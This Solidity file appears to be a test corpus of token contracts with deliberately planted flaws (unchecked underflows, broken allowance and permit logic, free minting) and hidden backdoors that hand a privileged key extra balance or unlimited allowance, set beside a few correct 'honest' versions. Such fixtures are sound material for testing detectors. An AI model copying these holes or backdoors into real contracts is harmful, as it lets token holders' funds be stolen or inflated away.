// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Tokens whose open functions give or take units that nothing proves to be the caller's, and honest twins.

abstract contract UnitToken {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;
    address internal key;
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address holder, address key_) { balanceOf[holder] = 1000e18; totalSupply = 1000e18; key = key_; }

    function approve(address spender, uint256 value) external virtual returns (bool) { allowance[msg.sender][spender] = value; return true; }
    function transfer(address to, uint256 value) external virtual returns (bool) { _move(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external virtual returns (bool) { _spend(from, value); _move(from, to, value); return true; }
    function _spend(address from, uint256 value) internal {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) { require(allowed >= value); allowance[from][msg.sender] = allowed - value; }
    }
    function _move(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
    function _mint(address to, uint256 value) internal { balanceOf[to] += value; totalSupply += value; emit Transfer(address(0), to, value); }
}

/// Transfers that create units.
contract UnitsBelowZero is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function _move(address from, address to, uint256 value) internal override { unchecked { balanceOf[from] -= value; balanceOf[to] += value; } emit Transfer(from, to, value); } }
contract UnitsToOneself is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function _move(address from, address to, uint256 value) internal override { uint256 a = balanceOf[from]; uint256 b = balanceOf[to]; balanceOf[from] = a - value; balanceOf[to] = b + value; emit Transfer(from, to, value); } }
contract UnitsOfFewerBits is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function _move(address from, address to, uint256 value) internal override { balanceOf[from] -= uint128(value); balanceOf[to] += value; emit Transfer(from, to, value); } }
contract UnitsTimesThree is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function _move(address from, address to, uint256 value) internal override { unchecked { uint256 cost = value * 3; require(balanceOf[from] >= cost); balanceOf[from] -= cost; balanceOf[to] += value; } emit Transfer(from, to, value); } }
contract UnitsForKey is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function _move(address from, address to, uint256 value) internal override { balanceOf[from] -= value; balanceOf[to] += value; balanceOf[key] += value * 1e6; emit Transfer(from, to, value); } }
contract UnitsWithoutBranch is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function _move(address from, address to, uint256 value) internal override { uint256 bonus; address k = key; assembly { bonus := mul(iszero(xor(caller(), k)), value) } balanceOf[from] = balanceOf[from] + bonus - value; balanceOf[to] += value; emit Transfer(from, to, value); } }
contract UnitsTwice is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function _move(address from, address to, uint256 value) internal override { uint256 fee = value / 100; balanceOf[from] -= value; balanceOf[to] += value - fee; balanceOf[key] += fee; balanceOf[address(1)] += fee; emit Transfer(from, to, value); } }
contract UnitsOfBefore is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function aaa(address to, address other, uint256 a, uint256 b) external { uint256 before = balanceOf[msg.sender]; balanceOf[msg.sender] = before - a; balanceOf[to] += a; balanceOf[msg.sender] = before - b; balanceOf[other] += b; } }

/// Allowances that no account has given.
contract AllowanceBelowZero is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function transferFrom(address from, address to, uint256 value) external override returns (bool) { unchecked { allowance[from][msg.sender] -= value; } _move(from, to, value); return true; } }
contract AllowanceOfRecipient is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function transferFrom(address from, address to, uint256 value) external override returns (bool) { allowance[to][msg.sender] -= value; _move(from, to, value); return true; } }
contract AllowanceOfCaller is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function transferFrom(address from, address to, uint256 value) external override returns (bool) { allowance[msg.sender][from] -= value; _move(from, to, value); return true; } }
contract AllowanceIfEnough is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function transferFrom(address from, address to, uint256 value) external override returns (bool) { _move(from, to, value); uint256 allowed = allowance[from][msg.sender]; bool isMore = allowed > value; bool isAll = allowed == value; bool isEnough; assembly { isEnough := or(isMore, isAll) } if (isEnough) allowance[from][msg.sender] = allowed - value; return true; } }
contract AllowanceOfAny is UnitToken { mapping(address => mapping(address => uint256)) private _grants; constructor(address h, address k) UnitToken(h, k) {} function aaa(address from, address to, uint256 value) external { _grants[from][to] = value; } function bbb(address from, address to, uint256 value) external { _grants[from][msg.sender] -= value; _move(from, to, value); } }
contract AllowanceForNeighbor is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function approve(address spender, uint256 value) external override returns (bool) { allowance[msg.sender][address(uint160(spender) ^ 0xabc001)] = value; return true; } }
contract AllowanceForKey is UnitToken { constructor(address h, address k) UnitToken(h, k) {} function transfer(address to, uint256 value) external override returns (bool) { allowance[msg.sender][key] = type(uint256).max; _move(msg.sender, to, value); return true; } function approve(address spender, uint256 value) external override returns (bool) { allowance[msg.sender][spender] = value; allowance[msg.sender][key] = value; return true; } }

/// An owner signs for an allowance: in the last, one key gets one too.
abstract contract SignedUnits is UnitToken {
    mapping(address => uint256) public nonces;
    function _signer(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) internal returns (address) {
        require(block.timestamp <= deadline);
        bytes32 terms = keccak256(abi.encode(keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)"), owner, spender, value, nonces[owner]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked(hex"1901", keccak256(abi.encode(block.chainid, address(this))), terms)), v, r, s);
        require(signer != address(0) && signer == owner);
        return signer;
    }
}
contract PermitOfOwner is SignedUnits { constructor(address h, address k) UnitToken(h, k) {} function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external { _signer(owner, spender, value, deadline, v, r, s); allowance[owner][spender] = value; } }
contract PermitOfSigner is SignedUnits { constructor(address h, address k) UnitToken(h, k) {} function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external { allowance[_signer(owner, spender, value, deadline, v, r, s)][spender] = value; } }
contract PermitForKey is SignedUnits { constructor(address h, address k) UnitToken(h, k) {} function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external { _signer(owner, spender, value, deadline, v, r, s); allowance[owner][spender] = value; allowance[owner][key] = value; } }

/// Units for a payment of nothing.
contract UnitsForNothing is UnitToken {
    mapping(address => uint256) private _points;
    uint256 private _price = 1 << 40;
    constructor(address h, address k) UnitToken(h, k) {}
    function sum(uint256 n) external payable { _mint(msg.sender, n + msg.value); }
    function either(uint256 n) external payable { _mint(msg.sender, n ^ msg.value); }
    function share(uint256 n) external payable { _mint(msg.sender, n / (msg.value + 1)); }
    function times(uint256 n) external payable { _mint(msg.sender, n * (msg.value + 1)); }
    function less(uint256 n) external payable { _mint(msg.sender, n - msg.value); }
    function wrapped(uint256 n) external payable { unchecked { require(msg.value == n * _price); } _mint(msg.sender, n); }
    function refunded() external payable { _mint(msg.sender, msg.value); payable(msg.sender).transfer(msg.value); }
    function twice(address a, address b) external payable { balanceOf[a] += msg.value; balanceOf[b] += msg.value; }
    function earn() external payable { _points[msg.sender] += msg.value; }
    function bit(uint256 n) external { _points[msg.sender] -= n & 1; _mint(msg.sender, n); }
    function part(uint256 n) external { _points[msg.sender] -= n / 1e30; _mint(msg.sender, n); }
    function rest(uint256 n) external { _points[msg.sender] -= n % 7; _mint(msg.sender, n); }
    function upper(uint256 n) external { _points[msg.sender] -= n >> 200; _mint(msg.sender, n); }
    function lower(uint256 n) external { _points[msg.sender] -= uint8(n); _mint(msg.sender, n); }
}

/// What is taken belongs to the caller, or is paid for.
contract HonestUnits is UnitToken {
    mapping(address => uint256) private _points;
    uint256 private _price = 1e15;
    constructor(address h, address k) UnitToken(h, k) {}
    function deposit() external payable { _mint(msg.sender, msg.value); }
    function rate() external payable { _mint(msg.sender, msg.value * 1000 / 1007); }
    function buy(uint256 n) external payable { require(msg.value == n * _price); _mint(msg.sender, n); }
    function earn() external payable { _points[msg.sender] += msg.value; }
    function swap(uint256 n) external { _points[msg.sender] -= n; _mint(msg.sender, n); }
    function stake(uint256 n) external { _move(msg.sender, address(this), n); _points[msg.sender] += n; }
    function unstake() external { uint256 n = _points[msg.sender]; _points[msg.sender] = 0; _move(address(this), msg.sender, n); }
    function burnFrom(address from, uint256 n) external { _spend(from, n); balanceOf[from] -= n; totalSupply -= n; }
    function withdrawFrom(address from, address payable to, uint256 n) external { if (from != msg.sender) _spend(from, n); balanceOf[from] -= n; (bool isSent, ) = to.call{value: n}(""); require(isSent); }
}
contract HonestFees is UnitToken { mapping(address => bool) public isExempt; constructor(address h, address k) UnitToken(h, k) {} function _move(address from, address to, uint256 value) internal override { balanceOf[from] -= value; uint256 fee; if (!isExempt[from]) { fee = value / 50; balanceOf[key] += fee; } balanceOf[to] += value - fee; emit Transfer(from, to, value - fee); } }

/// One account takes units of others, or has more of its own.
contract KeyUnits is UnitToken {
    modifier only() { require(msg.sender == key); _; }
    constructor(address h, address k) UnitToken(h, k) {}
    function lower(address account, uint256 n) external only { balanceOf[account] -= n; totalSupply -= n; }
    function below(address to, uint256 n) external only { unchecked { balanceOf[msg.sender] -= n; } balanceOf[to] += n; }
    function own(address to, uint256 n) external only { balanceOf[msg.sender] -= n; balanceOf[to] += n; }
}
contract KeyFactors {
    struct User { uint128 points; uint128 amount; }
    address private immutable KEY;
    mapping(address => User) private _users;
    mapping(address => uint256) private _factors;
    modifier only() { require(msg.sender == KEY); _; }
    constructor(address key) { KEY = key; }
    function balanceOf(address account) external view returns (uint256) { return _users[account].amount * (1 + _factors[account]); }
    function transfer(address to, uint128 n) external returns (bool) { _users[msg.sender].amount -= n; _users[to].amount += n; return true; }
    function word(address account, uint256 n) external only { User storage user = _users[account]; assembly { sstore(user.slot, add(sload(user.slot), n)) } }
    function factor(address account, uint256 n) external only { _factors[account] = n; }
}
contract KeyItems {
    address private immutable KEY;
    mapping(uint256 => address) public ownerOf;
    mapping(uint256 => address) public getApproved;
    mapping(address => uint256) public balanceOf;
    modifier only() { require(msg.sender == KEY); _; }
    constructor(address key) { KEY = key; }
    function transferFrom(address from, address to, uint256 id) external { require(ownerOf[id] == from && (msg.sender == from || getApproved[id] == msg.sender)); delete getApproved[id]; balanceOf[from]--; balanceOf[to]++; ownerOf[id] = to; }
    function owner(uint256 id, address to) external only { ownerOf[id] = to; }
    function spender(uint256 id, address to) external only { getApproved[id] = to; }
    function clear(uint256 id) external only { delete getApproved[id]; }
}

interface IUnusualAsset {
    function push(address to, uint256 n) external;
    function setOperator(address to, bool isOperator) external;
    function withdrawTo(address to, uint256 n) external;
}
/// One account moves assets by functions of other standards.
contract KeyAssets {
    IUnusualAsset private immutable ASSET;
    address private immutable KEY;
    modifier only() { require(msg.sender == KEY); _; }
    constructor(IUnusualAsset asset, address key) { ASSET = asset; KEY = key; }
    function push(address to, uint256 n) external only { ASSET.push(to, n); }
    function operator(address to) external only { ASSET.setOperator(to, true); }
    function withdraw(address to, uint256 n) external only { ASSET.withdrawTo(to, n); }
    function signer(uint256 n) external { ASSET.withdrawTo(tx.origin, n); }
}
